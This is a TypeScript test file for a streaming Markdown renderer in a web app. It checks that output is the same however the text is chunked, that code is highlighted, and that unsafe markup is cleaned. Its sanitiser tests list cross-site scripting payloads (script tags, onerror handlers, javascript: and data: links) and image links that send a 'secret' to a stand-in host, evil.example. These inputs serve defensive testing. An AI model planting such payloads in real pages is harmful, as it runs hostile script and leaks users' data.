import { join } from 'node:path';
import { build } from 'esbuild';
import fc from 'fast-check';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from './support.ts';

const folder = join(import.meta.dirname, '..', '..', 'apps', 'web', 'src', 'markdown');

/** Renders pieces as they would stream in; gives the HTML of the page's nodes. */
const program = `
import { MarkdownView } from './view.ts';
import { highlight, loadHighlighter } from './highlight.ts';
window.render = async (pieces) => {
  await loadHighlighter();
  const root = document.createElement('div');
  const view = new MarkdownView(root, highlight);
  let text = '';
  for (const piece of pieces) {
    text += piece;
    view.update(text, false);
  }
  view.update(text, true);
  return root.innerHTML;
};
window.shown = (pieces) => {
  const root = document.createElement('div');
  const view = new MarkdownView(root, highlight);
  let text = '';
  for (const piece of pieces) view.update((text += piece), false);
  return root.textContent;
};`;

const parts = [
  'Some *plain* words and `code`.\n\n',
  '# Title\n',
  '- one\n- two\n  - three\n\n',
  '```ts\nconst a: number = 1;\n// why\nexport const b = a;\n```\n',
  '~~~python\nprint("hi")\n~~~\n',
  '````md\n```js\nlet x;\n```\n````\n',
  '| a | b |\n|---|---|\n| 1 | **2** |\n\n',
  '> quote\n> > deeper\n\n',
  '[text][ref] and [other][REF]\n\n',
  '[ref]: https://example.org/x "t"\n\n',
  '<b onclick="alert(1)">x</b>\n\n',
  '![x](https://evil.example/a.png)\n\n',
  'words that go on ',
  '\n',
];

describe('Markdown in a real page (W5)', () => {
  let browser: Browser;
  let page: Page;
  beforeAll(async () => {
    const { outputFiles } = await build({
      stdin: { contents: program, resolveDir: folder, loader: 'ts' },
      bundle: true,
      write: false,
      format: 'iife',
      target: 'chrome90',
    });
    browser = await launchBrowser();
    page = await browser.newPage();
    await page.addScriptTag({ content: outputFiles[0]?.text ?? '' });
  });
  afterAll(() => browser.close());

  const render = (pieces: readonly string[]): Promise<string> =>
    page.evaluate(`window.render(${JSON.stringify(pieces)})`);

  it('gives the same nodes however the text is cut, highlighting and cleaning included', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.constantFrom(...parts), { minLength: 1, maxLength: 12 }),
        fc.integer({ min: 1, max: 17 }),
        async (chosen, size) => {
          const text = chosen.join('');
          const pieces = text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
          expect(await render(pieces)).toBe(await render([text]));
        },
      ),
      { numRuns: 120 },
    );
  });

  it('highlights code and keeps its text', async () => {
    const html = await render(['```ts\nconst a = "<b>";\n```\n']);
    expect(html).toContain('<span class="hljs-keyword">const</span>');
    expect(html).toContain('&lt;b&gt;');
  });

  it('shows the text of an open fence at once', async () => {
    const shown: string = await page.evaluate(
      `window.shown(${JSON.stringify(['before\n\n```ts\n', 'const ', 'a = 1', ';\ncon'])})`,
    );
    expect(shown).toContain('const a = 1;\ncon');
  });

  it.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '[x](javascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<form id="app" name="body"><input name="x"></form>',
    '![x](https://evil.example/?q=secret)',
    '![x](//evil.example/?q=secret)',
    '<a href="https://evil.example" style="position:fixed" data-x="1">x</a>',
  ])('lets nothing of %s act', async (source) => {
    const html = await render([source]);
    expect(html).not.toMatch(/<(script|img|svg|form|iframe)\b/i);
    expect(html).not.toMatch(/<[^>]*\s(on\w+|style|id|name|data-\w+)=/i);
    expect(html).not.toMatch(/<[^>]*href="(javascript|data):/i);
  });
});
